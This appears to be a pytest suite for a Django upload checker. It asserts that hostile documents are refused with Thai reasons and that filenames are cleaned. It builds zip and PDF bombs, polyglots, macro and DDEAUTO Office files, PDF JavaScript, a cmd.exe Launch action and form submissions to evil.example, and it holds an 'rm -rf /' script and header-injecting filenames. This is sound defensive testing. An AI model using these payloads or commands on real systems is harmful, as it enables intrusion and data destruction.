"""Hostile documents: each is refused with its reason in Thai, without an exception, and nothing is stored."""

import io
import re
import zipfile
import zlib

import pikepdf
import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from center.documents.checking import check, clean_name
from center.documents.models import DocumentVersion
from center.documents.refusals import MOST_BYTES, REASONS, DocumentRefused
from center.documents.versions import add_version
from tests.center.documents.office_making import BODY, OFFICE, code, document, make_docx, make_xlsx
from tests.center.documents.pdf_making import make_pdf
from tests.center.documents.test_documents import stored_files
from tests.factories import make_document, make_staff

HTML = b"<!doctype html><script>alert(document.cookie)</script>"


def changed_pdf(change) -> bytes:
    """A valid PDF, changed with pikepdf."""
    output = io.BytesIO()
    with pikepdf.open(io.BytesIO(make_pdf())) as pdf:
        options = change(pdf) or {}
        pdf.save(output, **options)
    return output.getvalue()


def with_attachment(pdf) -> None:
    pdf.attachments["virus.exe"] = b"MZ"


def packed_inside(pdf) -> dict:
    """JavaScript in a compressed object stream, where a search through the bytes finds nothing."""
    script = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS="app.alert(1)"))
    pdf.Root.Outlines = pikepdf.Dictionary(First=pikepdf.Dictionary(Title="x", A=script))
    return {"object_stream_mode": pikepdf.ObjectStreamMode.generate, "compress_streams": True}


def stream(data: bytes, extra: str = "/Filter /FlateDecode") -> str:
    return f"<< /Length {len(data)} {extra} >>\nstream\n{data.decode('latin-1')}\nendstream"


def zip_bomb() -> bytes:
    return make_docx(more={"word/media/zeros.xml": bytes(300_000_000)})


def lying_size() -> bytes:
    """An entry whose headers declare 10 uncompressed bytes instead of 5 million."""
    data = make_docx(more={"word/media/a.png": bytes(5_000_000)})
    return data.replace((5_000_000).to_bytes(4, "little"), (10).to_bytes(4, "little"))


def many_entries() -> bytes:
    return make_docx(more={f"word/{number}.xml": "<a/>" for number in range(2_500)})


def wrong_checksum() -> bytes:
    data = b"A" * 40
    return make_docx(more={"a.bin": data}).replace(zlib.crc32(data).to_bytes(4, "little"), bytes(4))


def encrypted_zip() -> bytes:
    """The "encrypted" flag set in both headers of every entry."""
    data = bytearray(make_docx())
    for signature, flags_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(signature)
        while start >= 0:
            data[start + flags_offset] |= 1
            start = data.find(signature, start + 4)
    return bytes(data)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000)
JS = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
ESCAPED = "/OpenAction << /S /J#61vaScript /J#53 (app.alert) >>"


def link_to(file: str) -> str:
    """An annotation that opens another PDF when it is clicked."""
    return f"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F {file} /D [0 /Fit] >> >>]"


CALLS = "/OpenAction << /S /URI /URI (http://evil.example) >>"
SENDS = "/Annots [<< /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://evil.example) >> >>]"
ENTITY = '<!DOCTYPE x [<!ENTITY a "aaaa">]>' + BODY

HOSTILE = {
    # Empty, too large, of another type
    "zero bytes": ("empty", "form.pdf", lambda: b""),
    "too large": ("too_many_bytes", "form.pdf", lambda: make_pdf() + bytes(MOST_BYTES)),
    "HTML named pdf": ("unknown", "form.pdf", lambda: HTML),
    "HTML named docx": ("unknown", "form.docx", lambda: HTML),
    "SVG named pdf": ("unknown", "form.pdf", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    "program named pdf": ("unknown", "form.pdf", lambda: b"MZ\x90\x00" + bytes(500)),
    "script named xlsx": ("unknown", "form.xlsx", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "RTF named docx": ("unknown", "form.docx", lambda: b"{\\rtf1 \\object}"),
    "a plain zip named docx": ("unknown", "form.docx", lambda: zip_of({"run.html": HTML})),
    "JPEG named pdf": ("unknown", "form.pdf", lambda: b"\xff\xd8\xff\xe0" + bytes(200)),
    # Misleading names
    "PDF named exe": ("wrong_name", "form.exe", make_pdf),
    "PDF named html": ("wrong_name", "form.html", make_pdf),
    "PDF named docx": ("wrong_name", "form.docx", make_pdf),
    "Word named xlsx": ("wrong_name", "form.xlsx", make_docx),
    "Excel named xlsm": ("macro", "form.xlsm", make_xlsx),
    "two extensions": ("wrong_name", "form.pdf.html", make_pdf),
    # Old Office and passwords
    "old Word": ("old_office", "form.doc", lambda: OLE),
    "Word with a password": ("encrypted", "form.docx", lambda: OLE),
    "zip with a password": ("encrypted", "form.docx", encrypted_zip),
    "PDF with a password": (
        "encrypted",
        "form.pdf",
        lambda: changed_pdf(lambda pdf: {"encryption": pikepdf.Encryption(owner="a", user="b")}),
    ),
    "PDF with an owner's password": (
        "encrypted",
        "form.pdf",
        lambda: changed_pdf(lambda pdf: {"encryption": pikepdf.Encryption(owner="a", user="")}),
    ),
    # Macros, embedded and linked content of Office files
    "docm": ("macro", "form.docm", lambda: make_docx(more={"word/vbaProject.bin": b"x"})),
    "docm named docx": ("macro", "form.docx", lambda: make_docx(more={"word/vbaProject.bin": b"x"})),
    "macro under another name": (
        "macro",
        "form.docx",
        lambda: make_docx(kind="application/vnd.ms-word.document.macroEnabled.main+xml"),
    ),
    "ActiveX": ("macro", "form.docx", lambda: make_docx(more={"word/activeX/activeX1.xml": "<a/>"})),
    "embedded program": ("embedded", "form.docx", lambda: make_docx(more={"word/embeddings/oleObject1.bin": b"MZ"})),
    "remote template": (
        "linked",
        "form.docx",
        lambda: make_docx(links=[("attachedTemplate", "http://evil.example/x", "External")]),
    ),
    "remote picture": (
        "linked",
        "form.docx",
        lambda: make_docx(links=[("image", "http://evil.example/x", "External")]),
    ),
    "field that starts a program": (
        "active",
        "form.docx",
        lambda: make_docx(body=document(code(" DDEAUTO c:\\x "))),
    ),
    "content that isn't merged yet": (
        "unmerged",
        "form.docx",
        lambda: make_docx(links=[("aFChunk", "a.html")], types={"/word/a.html": "text/html"}, more={"word/a.html": HTML}),
    ),
    "template": (
        "template",
        "form.docx",
        lambda: make_docx(kind=f"{OFFICE}wordprocessingml.template.main+xml"),
    ),
    "parts of another program": (
        "unusual",
        "form.docx",
        lambda: make_docx(links=[("http://example.com/x", "a.dat")], defaults={"dat": "a/b"}, more={"word/a.dat": "x"}),
    ),
    "entities": ("active", "form.docx", lambda: make_docx(body=ENTITY)),
    # Hostile archives
    "zip bomb": ("bomb", "form.docx", zip_bomb),
    "lying size": ("damaged", "form.docx", lying_size),
    "thousands of entries": ("bomb", "form.docx", many_entries),
    "path out of the folder": ("polyglot", "form.docx", lambda: make_docx(more={"../../etc/passwd": "x"})),
    "half a zip": ("damaged", "form.docx", lambda: make_docx()[:-30]),
    "bytes of an entry changed": ("damaged", "form.docx", wrong_checksum),
    # Polyglots
    "PDF with a zip behind it": ("polyglot", "form.pdf", lambda: make_pdf() + zip_of({"run.html": HTML})),
    "PDF with a page before it": ("unknown", "form.pdf", lambda: HTML + make_pdf()),
    "PDF that is a page too": ("polyglot", "form.pdf", lambda: make_pdf(title="<script>alert(1)</script>")),
    "PDF with a page behind it": ("polyglot", "form.pdf", lambda: make_pdf() + HTML),
    "zip with something behind it": ("polyglot", "form.docx", lambda: make_docx() + HTML),
    "zip with a PDF before it": ("polyglot", "form.pdf", lambda: make_pdf() + make_docx()),
    "zip with a comment": ("polyglot", "form.docx", lambda: make_docx()[:-2] + b"\x05\0<svg>"),
    # PDFs with actions
    "print dialog on opening": ("active", "form.pdf", lambda: make_pdf(catalog="/OpenAction << /S /Named /N /Print >>")),
    "page on opening, then a website": (
        "active",
        "form.pdf",
        lambda: make_pdf(catalog="/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://e.example) >> >>"),
    ),
    "other PDF on opening": (
        "active",
        "form.pdf",
        lambda: make_pdf(catalog="/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >>"),
    ),
    "link to a PDF of a server": ("linked", "form.pdf", lambda: make_pdf(page=link_to(r"(\\\\evil.example\\form.pdf)"))),
    "link to a PDF on the web": (
        "linked",
        "form.pdf",
        lambda: make_pdf(page=link_to("<< /FS /URL /F (http://evil.example/form.pdf) >>")),
    ),
    "JavaScript on opening": ("active", "form.pdf", lambda: make_pdf(catalog=f"/OpenAction {JS}")),
    "JavaScript by name": ("active", "form.pdf", lambda: make_pdf(catalog=f"/Names << /JavaScript << /Names [(a) {JS}] >> >>")),
    "JavaScript with escaped letters": ("active", "form.pdf", lambda: make_pdf(catalog=ESCAPED)),
    "JavaScript in a packed object": ("active", "form.pdf", lambda: changed_pdf(packed_inside)),
    "program on opening": ("active", "form.pdf", lambda: make_pdf(catalog="/OpenAction << /S /Launch /F (cmd.exe) >>")),
    "page of the web on opening": ("active", "form.pdf", lambda: make_pdf(catalog=CALLS)),
    "action of a page": ("active", "form.pdf", lambda: make_pdf(page=f"/AA << /O {JS} >>")),
    "XFA": ("active", "form.pdf", lambda: make_pdf(catalog="/AcroForm << /Fields [] /XFA (x) >>")),
    "form that sends itself": (
        "active",
        "form.pdf",
        lambda: make_pdf(page=SENDS),
    ),
    "embedded file": ("embedded", "form.pdf", lambda: changed_pdf(with_attachment)),
    "video": ("active", "form.pdf", lambda: make_pdf(page="/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]")),
    # Hostile and damaged PDFs
    "PDF bomb": ("bomb", "form.pdf", lambda: make_pdf(objects=(stream(zlib.compress(bytes(200_000_000), 9)),))),
    "packed twice": ("bomb", "form.pdf", lambda: make_pdf(objects=(stream(b"x", "/Filter [/FlateDecode /FlateDecode]"),))),
    "half a PDF": ("damaged", "form.pdf", lambda: make_pdf()[:200]),
    "nothing but a header": ("damaged", "form.pdf", lambda: b"%PDF-1.7\n%%EOF"),
    "no pages": ("damaged", "form.pdf", lambda: make_pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [     ] /Count 0")),
    "pages in a circle": ("damaged", "form.pdf", lambda: make_pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")),
    "arrays a thousand deep": ("damaged", "form.pdf", lambda: make_pdf(catalog="/X " + "[" * 1000 + "]" * 1000)),
}  # fmt: skip


def zip_of(files: dict[str, bytes]) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return output.getvalue()


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/pdf")


REFUSED_UNREAD = pytest.mark.sqlite_only(reason="the file is refused before any of it reaches the database")


@REFUSED_UNREAD
@pytest.mark.parametrize("case", HOSTILE)
@pytest.mark.django_db
def test_a_hostile_file_is_refused_and_leaves_nothing(case, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    reason, name, make = HOSTILE[case]
    document = make_document()
    with pytest.raises(DocumentRefused) as refused:
        add_version(document=document, file=upload(name, make()))
    assert refused.value.code == reason
    assert re.search("[ก-๙]", refused.value.messages[0])
    assert not DocumentVersion.objects.exists()
    assert stored_files(tmp_path) == []


def test_there_are_enough_of_them():
    assert len(HOSTILE) >= 30
    assert set(REASONS) == {reason for reason, _name, _make in HOSTILE.values()}


def test_the_plain_ones_are_taken():
    """The same files without the hostile content are accepted."""
    open_action = "/OpenAction [3 0 R /XYZ null null 0]"  # LibreOffice writes it into every PDF
    assert check(file=ContentFile(make_pdf(catalog=open_action), name="a.pdf")).kind == "pdf"
    link = "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.go.th) >> >>]"
    assert check(file=ContentFile(make_pdf(page=link), name="a.PDF")).pages == 1
    links = [("hyperlink", "https://example.go.th/", "External")]
    assert check(file=ContentFile(make_docx(links=links), name="a.docx")).kind == "docx"
    assert check(file=ContentFile(make_xlsx(), name="a")).kind == "xlsx"


@pytest.mark.parametrize(
    "content",
    [
        b"\xef\xbb\xbf" + make_pdf(),
        b"\r\n" + make_pdf(),
        make_pdf() + b"\x1a",
        make_pdf() + b"\0" * 512,
        make_pdf(catalog="/OpenAction << /S /Named /N /FirstPage >>"),
        make_pdf(page=link_to("(ภาคผนวก.pdf)".encode().decode("latin-1"))),
        make_pdf(page=link_to("<< /Type /Filespec /F (annex.pdf) /UF (annex.pdf) >>")),
    ],
    ids=[
        "byte order mark",
        "new line",
        "Ctrl-Z",
        "NULs",
        "first page by name",
        "link to a PDF",
        "link by a dictionary",
    ],
)
def test_what_programs_and_transfers_leave_around_a_pdf_is_taken(content):
    assert check(file=ContentFile(content, name="แบบคำขอ ลว. 5 ก.พ. 69")).pages == 1


LONG_THAI = "แบบคำขอลงทะเบียนผู้ผลิต" * 12


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("แบบคำขอ ปี 2569.pdf", "แบบคำขอ ปี 2569.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\windows\\แบบ.pdf", "แบบ.pdf"),
        ("..", "document.pdf"),
        ("", "document.pdf"),
        (".pdf", "document.pdf"),
        ("a\r\nSet-Cookie: x=1.pdf", "aSet-Cookie_ x=1.pdf"),
        ('a"; filename="b.html.pdf', "a_; filename=_b.html.pdf"),
        ("gpj.\u202efdp.pdf", "gpj.fdp.pdf"),
        ("แบบ", "แบบ.pdf"),
        ("แบบคำขอ ลว. 5 ก.พ. 69", "แบบคำขอ ลว. 5 ก.พ. 69.pdf"),
    ],
)
def test_names_are_kept_without_their_tricks(name, clean):
    assert clean_name(name, "pdf") == clean


def test_a_long_thai_name_is_cut_at_a_letter():
    assert len(LONG_THAI.encode()) > 260
    name = clean_name(LONG_THAI + ".pdf", "pdf")
    assert len(name.encode()) <= 230
    assert name.endswith(".pdf")
    assert LONG_THAI.startswith(name.removesuffix(".pdf"))


@pytest.mark.parametrize("name", ["../../up.pdf", LONG_THAI[:87] + ".pdf", "ก" * 400 + ".pdf", "a\0b.pdf"])
@pytest.mark.django_db
@pytest.mark.ignore_template_errors
def test_hostile_names_through_the_staff_site(client, name, settings, tmp_path):
    """The file is valid, so it is accepted, and stored under a random name."""
    settings.MEDIA_ROOT = tmp_path
    document = make_document()
    client.force_login(make_staff())
    answer = client.post(change_page(document), form_of(document) | {"new_file": upload(name, make_pdf())})
    assert answer.status_code == 302
    version = document.versions.get()
    assert re.fullmatch(r"documents/[0-9a-f-]{36}\.pdf", version.file.name)
    assert ".." not in version.original_name and "/" not in version.original_name
    answer = client.get(reverse("pages:document_download", args=[document.pk]))
    assert answer.status_code == 200
    assert all(len(value) < 2000 and "\n" not in value for value in answer.headers.values())
    answer.close()


@REFUSED_UNREAD
@pytest.mark.parametrize(
    "case", ["HTML named pdf", "docm named docx", "zero bytes", "JavaScript on opening", "zip bomb"]
)
@pytest.mark.django_db
@pytest.mark.ignore_template_errors
def test_the_staff_site_says_why(client, case, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    reason, name, make = HOSTILE[case]
    document = make_document()
    client.force_login(make_staff())
    answer = client.post(change_page(document), form_of(document) | {"new_file": upload(name, make())})
    assert answer.status_code == 200
    assert reason == "empty" or str(REASONS[reason]) in answer.content.decode()
    assert answer.context["adminform"].form.errors["new_file"]
    assert stored_files(tmp_path) == []


def change_page(document) -> str:
    return reverse("admin:center_document_change", args=[document.pk])


def form_of(document) -> dict:
    return {
        "name_th": document.name_th,
        "category": document.category_id,
        "purpose_th": document.purpose_th,
        "published_at_0": "1/10/2566",
        "published_at_1": "09.00",
        "versions-TOTAL_FORMS": 0,
        "versions-INITIAL_FORMS": 0,
    }
